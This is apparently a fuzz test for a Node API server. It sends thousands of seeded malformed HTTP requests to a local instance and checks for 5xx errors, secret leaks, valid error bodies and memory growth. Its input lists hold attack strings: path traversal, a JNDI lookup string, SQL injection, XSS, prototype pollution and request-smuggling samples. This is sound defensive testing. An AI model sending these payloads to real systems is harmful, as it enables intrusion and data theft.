import { randomBytes } from 'node:crypto'
import type { AddressInfo } from 'node:net'
import { Writable } from 'node:stream'
import v8 from 'node:v8'
import vm from 'node:vm'
import t from 'tap'
import { requestPath } from '../../src/http/problem.js'
import { buildApp, startTestDatabase, testEnv } from '../helper.js'
import { problemIssues } from '../problem.js'
import { rawRequest, type RawResponse } from '../raw-http.js'

// Replay a failure with the seed it printed: FUZZ_SEED=1234 npx tap test/fuzz/bad-requests.test.ts
const seed = Number(process.env.FUZZ_SEED ?? randomBytes(4).readUInt32LE())
const total = Number(process.env.FUZZ_REQUESTS ?? 5000)
const concurrency = 20
t.comment(`seed ${seed}, ${total} requests (replay: FUZZ_SEED=${seed})`)

const secretKey = `fuzz-secret-key-${randomBytes(16).toString('hex')}`
const database = await startTestDatabase(t)
const password = decodeURIComponent(new URL(database.url).password)
const secrets = [secretKey, password, encodeURIComponent(password), Buffer.from(`postgres:${password}`).toString('base64')]

/** The server's log, scanned as it is written: only lines with a secret are kept. */
const log = { lines: 0, leaks: [] as string[] }
const logStream = new Writable({
  write (chunk, _encoding, done) {
    const text = chunk.toString()
    log.lines += 1
    if (secrets.some((secret) => text.includes(secret))) log.leaks.push(text.slice(0, 300))
    done()
  }
})

const app = await buildApp(t, testEnv(database, {
  SECRET_KEY: secretKey,
  // Capacity answers (503 under load, a slow readiness probe) are not what this test is about.
  LOAD_SHEDDING_MAX_EVENT_LOOP_DELAY_MS: '0',
  HEALTH_TIMEOUT_MS: '30000'
}), { logs: { stream: logStream } })
await app.listen({ host: '127.0.0.1', port: 0 })
const port = (app.server.address() as AddressInfo).port
const documented = Object.keys((await app.inject({ method: 'GET', url: '/openapi.json' })).json().paths as object)
const routes = [...documented, '/docs', '/docs/static/index.html', '/redoc', '/openapi.json']

/** mulberry32: small, fast and seedable, so a failing run can be replayed exactly. */
function generator (state: number) {
  const next = (): number => {
    state = (state + 0x6D2B79F5) >>> 0
    let x = state
    x = Math.imul(x ^ (x >>> 15), x | 1)
    x ^= x + Math.imul(x ^ (x >>> 7), x | 61)
    return ((x ^ (x >>> 14)) >>> 0) / 4294967296
  }
  const int = (below: number) => Math.floor(next() * below)
  const pick = <T>(items: readonly T[]): T => items[int(items.length)]
  const chance = (p: number) => next() < p
  const text = (length: number, alphabet = 'abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789-._~') =>
    Array.from({ length }, () => alphabet[int(alphabet.length)]).join('')
  return { int, pick, chance, text }
}
const rng = generator(seed)
const { int, pick, chance, text } = rng

interface FuzzRequest {
  kind: string
  method: string
  /** The request target as sent: bytes outside ASCII are sent raw. */
  target: Buffer
  headers: Array<[string, string | Buffer]>
  body?: Buffer
  /** Bytes sent instead of a request built from the fields above. */
  raw?: Buffer
}

const segments = ['..', '.', '%2e%2e', '..%2f', '%2e%2e%2f', '..%5c', '%252e%252e', '%00', '%ff', '%C0%AF', '%E2%80%AE', '%',
  '%zz', '%E0%A4%A', '%%', '~', 'é', '日本語', '😀', 'a;b', 'a,b', "'", '"', '<script>', '{id}', ':id', '*', '.env', 'etc', 'passwd',
  'api', 'health', 'users', 'me', 'auth', 'token', 'register', 'docs', 'static', 'redoc', '']
const methods = ['GET', 'HEAD', 'POST', 'PUT', 'PATCH', 'DELETE', 'OPTIONS', 'TRACE', 'PROPFIND', 'MKCOL', 'COPY', 'MOVE', 'LOCK',
  'UNLOCK', 'SEARCH', 'PURGE', 'REPORT', 'LINK', 'UNLINK', 'SOURCE', 'QUERY']
const contentTypes = ['text/plain', 'application/xml', 'text/html', 'multipart/form-data; boundary=x', 'application/octet-stream',
  'application/json; charset=latin1', 'application/jsonx', 'application/', '/json', ';;;', 'application/json;', 'json', 'x'.repeat(300),
  'application/x-www-form-urlencoded', 'application/json; charset="utf-8"', 'APPLICATION/JSON', 'image/png', '*/*']
const origins = ['null', 'http://evil.example', 'https://localhost:3000.evil.example', 'javascript:alert(1)', 'file://', 'http://localhost:3000/',
  'http://LOCALHOST:3000', 'http://localhost:3000, http://evil.example', 'https://' + 'a'.repeat(2000) + '.example', 'http://[::1', '*']
const badIds = ['', ' ', 'x'.repeat(129), 'x'.repeat(5000), 'has space', 'a,b', '"quoted"', '<script>alert(1)</script>', '../../etc/passwd',
  '$' + '{jndi:ldap://evil.example/a}', '%00', 'id\u00e9', '\u00ff\u00fe']
const credentials = () => pick([`Bearer ${secretKey}`, `Basic ${Buffer.from(`postgres:${password}`).toString('base64')}`, secretKey,
  `Bearer ${text(20)}.${text(40)}.${text(43)}`, 'Bearer ', 'Bearer eyJhbGciOiJub25lIn0.eyJzdWIiOiJ4In0.', `Digest password="${password}"`])

function routeTarget (): string {
  return pick(routes).replace(/\{[^}]+\}/g, () => pick([text(8), '00000000-0000-0000-0000-000000000000', '%00', '..', '-1', '1e999']))
}

function randomTarget (): Buffer {
  const parts: Array<string | Buffer> = chance(0.6) ? [routeTarget()] : ['']
  for (let i = int(6); i > 0; i--) {
    const segment = pick(segments)
    parts.push('/', /[^\x20-\x7e]/.test(segment) ? Buffer.from(segment) : segment)
  }
  if (chance(0.1)) parts.push('/' + 'a'.repeat(int(chance(0.3) ? 20_000 : 8_000)))
  if (chance(0.1)) parts.push('//', pick(segments))
  if (chance(0.3)) parts.push('?', pick(['a=1&a=2', 'token=abc', '__proto__[x]=1', 'a[b][c]=d', '%zz=1', '&&&', '=', `q=${text(int(2000))}`, 'x=%00']))
  const target = Buffer.concat(parts.map((part) => typeof part === 'string' ? Buffer.from(part, 'latin1') : part))
  return target.length > 0 && target[0] === 0x2f ? target : Buffer.concat([Buffer.from('/'), target])
}

function malformedJson (): string {
  return pick([
    () => '{"email": "a@b.example", "password": ',
    () => '{' + '"a":'.repeat(int(50)),
    () => '['.repeat(2000 + int(20_000)) + ']'.repeat(int(3)),
    () => '{"__proto__": {"admin": true}, "email": "x"}',
    () => '{"constructor": {"prototype": {"admin": true}}}',
    () => '{"email": 1e999999, "password": NaN, "full_name": undefined}',
    () => `{"email": "${text(10)}@example.com", "password": "${text(12)}", "full_name": "\\u0000${text(5)}"}`,
    () => `{"username": "${secretKey}", "password": "${password}"}`,
    () => '{"email": "a@b.example", "email": ["x"], "password": {}, "full_name": null}',
    () => `"${text(int(100))}"`,
    () => String(int(1e9)),
    () => 'null',
    () => 'true',
    () => '\ufeff{"a": 1}',
    () => '{"a": "\\ud800"}',
    () => "{'single': 'quotes'}",
    () => text(int(500), '{}[]":,0123456789.eE+-tfnul \\'),
    () => randomBytes(int(300)).toString('latin1')
  ])()
}

const hostileStrings = () => pick(['\u0000', 'a\u0000b', '\ud800', '\u202e', '😀', '\\', '"', "'; DROP TABLE users; --", '%00', '',
  ' ', 'x'.repeat(300), 'x'.repeat(5000), '\u0000'.repeat(10), '$' + '{7*7}', '<img src=x>', text(12)])

/** Bodies of the right shape for the API's own routes, with hostile values. */
function shapedBody (): { path: string, contentType: string, body: string } {
  const value = () => chance(0.7) ? JSON.stringify(hostileStrings()).slice(1, -1) : text(10)
  if (chance(0.5)) {
    const field = () => chance(0.8) ? `"${value()}"` : pick(['1', 'null', '[]', '{}', 'true', '1e308'])
    return {
      path: '/api/auth/register',
      contentType: 'application/json',
      body: `{"email": ${chance(0.5) ? `"${text(8)}@example.com"` : field()}, "password": ${chance(0.5) ? `"${text(12)}"` : field()}, "full_name": ${field()}}`
    }
  }
  const form = () => [...Buffer.from(JSON.parse(`"${value()}"`))].map((byte) => '%' + byte.toString(16).padStart(2, '0')).join('')
  return { path: '/api/auth/token', contentType: 'application/x-www-form-urlencoded', body: `username=${form()}&password=${form()}${chance(0.2) ? '&grant_type=' + form() : ''}` }
}

function generate (): FuzzRequest {
  const base = (kind: string, method: string, target: Buffer): FuzzRequest => ({ kind, method, target, headers: [] })
  const roll = rng.int(100)
  if (roll < 18) {
    return base('path', pick(['GET', 'GET', 'HEAD', 'DELETE']), randomTarget())
  }
  if (roll < 27) {
    const request = base('method', pick(methods), Buffer.from(routeTarget()))
    if (chance(0.3)) request.body = Buffer.from(malformedJson())
    if (request.body !== undefined) request.headers.push(['Content-Type', 'application/json'])
    return request
  }
  if (roll < 44) {
    const request = base('json', pick(['POST', 'PUT', 'PATCH', 'POST', 'OPTIONS', 'DELETE']), Buffer.from(routeTarget()))
    request.headers.push(['Content-Type', pick(['application/json', 'application/json; charset=utf-8', 'application/problem+json', 'application/x-www-form-urlencoded'])])
    request.body = Buffer.from(chance(0.05) ? '' : malformedJson())
    return request
  }
  if (roll < 46) {
    const request = base('oversized-body', 'POST', Buffer.from(routeTarget()))
    request.headers.push(['Content-Type', 'application/json'])
    request.body = Buffer.from('{"a":"' + 'x'.repeat(1_048_576 + int(100_000)) + '"}')
    return request
  }
  if (roll < 53) {
    const request = base('content-type', pick(['POST', 'PUT', 'PATCH']), Buffer.from(routeTarget()))
    request.headers.push(['Content-Type', pick(contentTypes)])
    request.body = Buffer.from(chance(0.5) ? '{"email": "a@b.example"}' : text(int(200)))
    return request
  }
  if (roll < 61) {
    const { path, contentType, body } = shapedBody()
    const request = base('shaped-body', 'POST', Buffer.from(path))
    request.headers.push(['Content-Type', contentType])
    request.body = Buffer.from(body)
    return request
  }
  if (roll < 70) {
    const request = base('headers', pick(['GET', 'POST']), Buffer.from(routeTarget()))
    for (let i = int(chance(0.1) ? 300 : 10); i > 0; i--) request.headers.push([text(1 + int(30), 'abcdefghijklmnopqrstuvwxyz-_!#$%&*+.^`|~0123456789'), text(int(200), ' !#$%&()*+,-./:;<=>?@[]^_{|}~abcXYZ019')])
    if (chance(0.2)) request.headers.push(['X-Large', 'l'.repeat(chance(0.5) ? 17_000 : 10_000)])
    if (chance(0.2)) request.headers.push(['Content-Length', pick(['-1', 'abc', '1, 2', '99999999999999999999'])])
    if (chance(0.2)) request.headers.push(['Host', pick(['', 'evil.example', 'a'.repeat(1000), 'localhost:99999'])])
    if (chance(0.2)) request.headers.push(['Transfer-Encoding', pick(['chunked', 'gzip', 'identity', 'chunked, chunked'])])
    if (chance(0.2)) request.headers.push(['Accept', pick(['application/xml', '*/*;q=0', 'text/html', ''])])
    if (chance(0.2)) request.headers.push(['Content-Encoding', pick(['gzip', 'br', 'deflate', 'bogus'])])
    return request
  }
  if (roll < 76) {
    const request = base('origin', pick(['GET', 'OPTIONS', 'OPTIONS', 'POST']), Buffer.from(routeTarget()))
    request.headers.push(['Origin', pick(origins)])
    if (request.method === 'OPTIONS' && chance(0.8)) {
      request.headers.push(['Access-Control-Request-Method', pick([...methods, '', 'GET, POST', 'x'.repeat(500)])])
      if (chance(0.5)) request.headers.push(['Access-Control-Request-Headers', pick(['authorization', 'x-'.repeat(1000), '', ',,,', 'content-type, x-request-id'])])
    }
    return request
  }
  if (roll < 82) {
    const request = base('request-id', pick(['GET', 'POST', 'DELETE']), chance(0.5) ? randomTarget() : Buffer.from(routeTarget()))
    request.headers.push(['X-Request-Id', Buffer.from(pick(badIds), 'latin1')])
    if (chance(0.2)) request.headers.push(['X-Request-Id', 'second-one'])
    return request
  }
  if (roll < 92) {
    const request = base('credentials', pick(['GET', 'POST', 'DELETE']), Buffer.from(pick(['/api/users/me', '/api/auth/token', '/api/auth/register', routeTarget()])))
    request.headers.push(['Authorization', credentials()])
    if (chance(0.5)) request.headers.push(['Cookie', `session=${secretKey}; db=${password}`])
    if (request.method === 'POST' && chance(0.5)) {
      request.headers.push(['Content-Type', pick(['application/x-www-form-urlencoded', 'application/json'])])
      request.body = Buffer.from(pick([`username=${encodeURIComponent(secretKey)}&password=${encodeURIComponent(password)}`, `username=&password=${text(8)}`, malformedJson()]))
    }
    return request
  }
  const request = base('invalid-http', 'GET', Buffer.from('/'))
  request.raw = Buffer.from(pick([
    () => randomBytes(1 + int(200)).toString('latin1') + '\r\n\r\n',
    () => `${text(5)} / HTTP/1.1\r\nHost: x\r\n\r\n`,
    () => 'GET / HTTP/9.9\r\nHost: x\r\n\r\n',
    () => 'GET / HTTX/1.1\r\nHost: x\r\n\r\n',
    () => 'GET / HTTP/1.1\r\nHost: x\r\nNo-Colon\r\n\r\n',
    () => 'GET / HTTP/1.1\r\nHost: x\r\n Folded: header\r\n\r\n',
    () => 'GET / HTTP/1.1\r\nHost: x\r\nX-Ctl: a\u0001b\r\n\r\n',
    () => 'GET / HTTP/1.1\r\nHost: x\r\nX-Request-Id: a\u0000b\r\n\r\n',
    () => 'GET /\u0000 HTTP/1.1\r\nHost: x\r\n\r\n',
    () => 'POST / HTTP/1.1\r\nHost: x\r\nContent-Length: 3\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n',
    () => 'POST /api/auth/register HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\nContent-Type: application/json\r\n\r\nzz\r\n{}\r\n0\r\n\r\n',
    () => 'POST / HTTP/1.1\r\nHost: x\r\nContent-Length: 2\r\nContent-Length: 3\r\n\r\nabc',
    () => 'GET / HTTP/1.1\r\nHost: x\r\n\r\nGARBAGE AFTER /x HTTP/1.1\r\n\r\n',
    () => 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n',
    () => `GET / HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer ${secretKey}\r\nX: ${'y'.repeat(20_000)}\r\n\r\n`
  ])(), 'latin1')
  return request
}

function encode (request: FuzzRequest): Buffer {
  if (request.raw !== undefined) return request.raw
  const lines: Array<string | Buffer> = [`${request.method} `, request.target, ' HTTP/1.1\r\n']
  // Host first, unless the generator chose its own; Connection: close ends every exchange.
  if (!request.headers.some(([name]) => name === 'Host')) lines.push('Host: 127.0.0.1\r\n')
  for (const [name, value] of request.headers) lines.push(`${name}: `, value, '\r\n')
  if (request.body !== undefined && !request.headers.some(([name]) => /^(content-length|transfer-encoding)$/i.test(name))) {
    lines.push(`Content-Length: ${request.body.length}\r\n`)
  }
  lines.push('Connection: close\r\n\r\n')
  if (request.body !== undefined) lines.push(request.body)
  return Buffer.concat(lines.map((line) => typeof line === 'string' ? Buffer.from(line, 'latin1') : line))
}

/** What is wrong with the answer to one request (empty when nothing is). */
function judge (request: FuzzRequest, response: RawResponse): string[] {
  const issues: string[] = []
  if (response.statusCode >= 500) issues.push(`status ${response.statusCode}`)
  const sent = JSON.stringify(response.headers) + response.body
  if (secrets.some((secret) => sent.includes(secret))) issues.push('a secret is in the response')
  if (response.statusCode >= 400) {
    if (response.statusCode === 400 && String(response.headers['content-type']).startsWith('application/json') &&
      requestPath(request.target.toString('latin1')).replace(/\/$/, '') === '/api/auth/token') {
      // The token endpoint refuses with RFC 6749 §5.2 errors, not problems; the router takes it
      // with a trailing slash too (ignoreTrailingSlash).
      const body = JSON.parse(response.body)
      if (!['invalid_request', 'invalid_grant', 'unsupported_grant_type'].includes(body.error) || typeof body.error_description !== 'string') issues.push(`OAuth2 error ${response.body.slice(0, 80)}`)
    } else if (request.method === 'HEAD' && request.raw === undefined) {
      if (!String(response.headers['content-type']).startsWith('application/problem+json')) issues.push(`HEAD error as ${response.headers['content-type']}`)
    } else {
      issues.push(...problemIssues(response))
      const body = response.body.startsWith('{') ? JSON.parse(response.body) : {}
      // Fastify saw the request: instance is its path. Node's parser refused it: there is none.
      if (body.instance !== undefined && request.raw === undefined && body.instance !== requestPath(request.target.toString('latin1'))) {
        issues.push(`instance ${JSON.stringify(body.instance)}`)
      }
      if (body.instance === undefined && ![400, 408, 431].includes(response.statusCode)) issues.push('no instance')
    }
  }
  return issues
}

function describe (index: number, request: FuzzRequest): string {
  const start = (request.raw ?? Buffer.concat([Buffer.from(`${request.method} `), request.target])).toString('latin1')
  return `#${index} ${request.kind}: ${JSON.stringify(start.slice(0, 120))}${request.body === undefined ? '' : ` +${request.body.length} bytes`}`
}

// A body past the limit is refused from its Content-Length; the socket may close while the rest is still being sent.
const mayReset = (request: FuzzRequest) => (request.body?.length ?? 0) > 1_048_576

const requests = Array.from({ length: total }, generate)
const failures: string[] = []
const counts = { answered: 0, reset: 0, byStatus: new Map<number, number>(), byKind: new Map<string, number>() }

async function run (from: number, to: number): Promise<void> {
  let next = from
  async function worker (): Promise<void> {
    while (next < to) {
      const index = next++
      const request = requests[index]
      counts.byKind.set(request.kind, (counts.byKind.get(request.kind) ?? 0) + 1)
      try {
        const response = await rawRequest(port, encode(request))
        counts.answered += 1
        counts.byStatus.set(response.statusCode, (counts.byStatus.get(response.statusCode) ?? 0) + 1)
        const issues = judge(request, response)
        if (issues.length > 0) failures.push(`${describe(index, request)} -> ${response.statusCode}: ${issues.join('; ')}`)
      } catch (error) {
        if (mayReset(request)) counts.reset += 1
        else failures.push(`${describe(index, request)} -> ${(error as Error).message}`)
      }
    }
  }
  await Promise.all(Array.from({ length: concurrency }, worker))
}

/** Heap in use after a full garbage collection. */
function settledHeap (): number {
  v8.setFlagsFromString('--expose-gc')
  const gc = vm.runInNewContext('gc') as () => void
  gc()
  gc()
  return process.memoryUsage().heapUsed
}

t.test(`${total} generated bad requests to a listening server`, async (t) => {
  // A first part warms up (compiled code, caches, pools); the second must not keep memory.
  const warmUp = Math.min(1000, Math.floor(total / 5))
  await run(0, warmUp)
  const heapAfterWarmUp = settledHeap()
  await run(warmUp, total)
  const heapAtEnd = settledHeap()

  t.comment(`answered ${counts.answered}, closed without answer ${counts.reset}; statuses ${JSON.stringify(Object.fromEntries([...counts.byStatus].sort((a, b) => a[0] - b[0])))}`)
  t.comment(`kinds ${JSON.stringify(Object.fromEntries(counts.byKind))}; ${log.lines} log lines`)
  t.same(failures.slice(0, 20), [], `every answer is below 500, a valid problem for errors, and without secrets (${failures.length} failures)`)
  t.ok(counts.answered >= total * 0.95, 'almost every request got an answer')

  const growth = heapAtEnd - heapAfterWarmUp
  t.comment(`heap after warm-up ${(heapAfterWarmUp / 2 ** 20).toFixed(1)} MiB, at the end ${(heapAtEnd / 2 ** 20).toFixed(1)} MiB`)
  t.ok(growth < 8 * 2 ** 20, `the heap settles: ${(growth / 2 ** 20).toFixed(1)} MiB more after ${total - warmUp} further requests`)

  const health = await rawRequest(port, 'GET /api/health HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n')
  t.equal(health.statusCode, 200, 'the server still answers')
  t.same(JSON.parse(health.body), { status: 'healthy', database: 'connected' })
  t.same(log.leaks, [], 'no secret in the log')
  t.ok(log.lines >= total, 'the server logged every request')
})
